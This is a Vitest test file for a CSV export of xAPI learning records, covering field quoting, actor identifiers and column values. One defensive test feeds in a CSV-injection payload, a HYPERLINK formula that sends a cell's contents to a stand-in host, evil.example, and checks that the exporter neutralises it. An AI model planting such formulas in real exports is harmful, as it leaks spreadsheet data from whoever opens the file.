import { describe, expect, it } from 'vitest'
import { actorIfi, CSV_COLUMNS, csvField, csvRecord, csvValues } from './csv-row.ts'

describe('CSV export rows', () => {
  it('quotes fields with a comma, quote, CR or LF and doubles quotes (RFC 4180 section 2, rules 5–7)', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvRecord(['a', 'b'])).toBe('a,b\r\n')
  })

  it('writes the actor as its identifier: mbox, sha1, openid or homePage#name', () => {
    expect(actorIfi({ mbox: 'mailto:a@paud.example' })).toBe('mailto:a@paud.example')
    expect(actorIfi({ mbox_sha1sum: 'ab' })).toBe('sha1:ab')
    expect(actorIfi({ openid: 'https://id.example/a' })).toBe('https://id.example/a')
    expect(actorIfi({ account: { homePage: 'https://lms.example', name: 'ptk-1' } })).toBe('https://lms.example#ptk-1')
    expect(actorIfi({ objectType: 'Group', member: [] })).toBe('')
  })

  it('fills one value per column, with empty cells for what the statement lacks and its JSON last', () => {
    const json = JSON.stringify({
      id: 'e1b8c1a0-0000-4000-8000-000000000001',
      stored: '2026-03-01T00:00:00.000Z',
      timestamp: '2026-03-01T08:00:00+08:00',
      actor: { mbox: 'mailto:a@paud.example' },
      verb: { id: 'http://adlnet.gov/expapi/verbs/passed' },
      object: { id: 'https://tln.example/post-test' },
      result: { success: true },
      context: { extensions: { 'https://tln.example/xapi/extensions/npsn': '50200123' } },
    })
    const values = csvValues(json)
    expect(values).toHaveLength(CSV_COLUMNS.length)
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, values[i]]))
    expect(row).toMatchObject({ actor: 'mailto:a@paud.example', actor_name: '', object_type: 'Activity', score_scaled: '', success: 'true', completion: '', npsn: '50200123', kecamatan: '', statement: json })
  })
})

describe('CSV export rows and spreadsheet formulas (OWASP CSV Injection)', () => {
  it('quotes a name or extension text that a spreadsheet would run, and leaves numbers as numbers', () => {
    const json = JSON.stringify({
      id: 'e1b8c1a0-0000-4000-8000-000000000002',
      actor: { mbox: 'mailto:a@paud.example', name: '=HYPERLINK("https://evil.example/?"&A1,"klik")' },
      verb: { id: 'http://adlnet.gov/expapi/verbs/scored' },
      object: { id: 'https://tln.example/post-test' },
      result: { score: { raw: -3, scaled: -0.5 } },
      context: { extensions: { 'https://tln.example/xapi/extensions/kecamatan': '@Praya', 'https://tln.example/xapi/extensions/npsn': '-50200123', 'https://tln.example/xapi/extensions/tln-group': -1 } },
    })
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, csvValues(json)[i]]))
    expect(row).toMatchObject({
      actor_name: '\'=HYPERLINK("https://evil.example/?"&A1,"klik")', kecamatan: "'@Praya", npsn: "'-50200123",
      score_raw: '-3', score_scaled: '-0.5', tln_group: '-1',
    })
    expect(row.statement).toBe(json)
  })
})
